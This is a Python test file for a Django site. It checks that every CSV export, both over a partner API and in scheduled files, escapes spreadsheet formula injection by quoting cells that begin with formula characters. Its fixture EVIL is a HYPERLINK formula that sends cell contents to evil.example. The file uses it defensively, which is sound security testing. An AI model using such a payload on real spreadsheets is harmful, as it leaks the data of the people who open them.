"""Issue 30, item 9: no CSV the site writes carries a formula. A customer who calls
themselves `=HYPERLINK(...)` arrives in a partner's spreadsheet as text (OWASP's rule:
a cell starting with = + - @, a tab or a carriage return gets a leading quote)."""

import csv
import io

import pytest
from django.test import Client
from factories import GRACE
from tests_paths import use_profile

from hippocratic.spreadsheet import dict_writer, safe_cell, writer

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start):
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


def test_plain_text_and_numbers_pass_as_they_are():
    assert safe_cell("Grace Hopper") == "Grace Hopper"
    assert safe_cell(-5) == -5 and safe_cell(None) is None and safe_cell("") == ""
    out = io.StringIO()
    writer(out).writerows([["a", "=1"], [-2, "x"]])
    dict_writer(out, ["k"]).writerow({"k": "@SUM(A1)"})
    assert out.getvalue().splitlines() == ["a,'=1", "-2,x", "'@SUM(A1)"]


def test_a_formula_in_a_name_reaches_the_partner_csv_as_text(signed_up, settings, tmp_path):
    from hippocratic.disclosure import partners

    settings.HIPPOCRATIC_PARTNER_EXPORTS = str(tmp_path / "exports")
    with use_profile("quality"):
        signed_up("grace", {**GRACE, "name": EVIL})
        partner = partners.register(
            recipient="partners", name="Offers Ltd", agreement="Partner agreement 2026",
            ground="partner_offers", categories=["user.name"], schedule="daily",
        )  # fmt: skip
        token = partners.issue_token(partner)
        got = Client().get("/api/partner/share?format=csv", HTTP_AUTHORIZATION=f"Bearer {token}")
        assert got.status_code == 200
        (row,) = csv.DictReader(io.StringIO(got.content.decode()))
        assert row["name"] == "'" + EVIL
        type(partner).objects.filter(pk=partner.pk).update(last_shared_at=None)
        assert partners.scheduled_shares() == 1  # the daily file too
        (export,) = (tmp_path / "exports" / f"partner-{partner.pk}").iterdir()
        (row,) = csv.DictReader(io.StringIO(export.read_text()))
        assert row["name"] == "'" + EVIL


def test_no_csv_is_written_but_through_the_one_helper():
    """A new export that called csv.writer itself would bring formulas back."""
    from pathlib import Path

    import hippocratic

    root = Path(hippocratic.__file__).parent
    direct = [
        str(p.relative_to(root))
        for p in root.rglob("*.py")
        if p.name != "spreadsheet.py"
        and any(w in p.read_text() for w in ("csv.writer", "csv.DictWriter", "import csv"))
    ]
    assert direct == []
